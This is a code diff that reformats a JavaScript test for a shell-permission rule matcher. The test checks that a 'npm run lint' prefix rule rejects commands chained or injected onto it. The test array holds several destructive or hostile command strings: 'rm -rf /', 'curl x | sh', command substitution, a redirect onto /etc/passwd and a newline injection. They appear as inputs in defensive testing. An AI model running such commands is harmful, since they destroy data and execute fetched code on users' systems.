@@ -36,7 +36,15 @@ describe('rules match in full', () => {
   it('prefixes stop at a word and never cover chaining, substitution or redirection', () => {
     expect(bash('Bash(npm run lint:*)', 'npm run lint')).toBe(true);
     expect(bash('Bash(npm run lint:*)', 'npm run lint -- --fix src')).toBe(true);
-    for (const near of ['npm run linter', 'npm run lint; rm -rf /', 'npm run lint && curl x | sh', 'npm run lint $(rm -rf ~)', 'npm run lint `id`', 'npm run lint > /etc/passwd', 'npm run lint\nrm -rf ~']) {
+    for (const near of [
+      'npm run linter',
+      'npm run lint; rm -rf /',
+      'npm run lint && curl x | sh',
+      'npm run lint $(rm -rf ~)',
+      'npm run lint `id`',
+      'npm run lint > /etc/passwd',
+      'npm run lint\nrm -rf ~',
+    ]) {
       expect(bash('Bash(npm run lint:*)', near), near).toBe(false);
     }
     expect(bash('Bash(git * main)', 'git push origin main')).toBe(true);
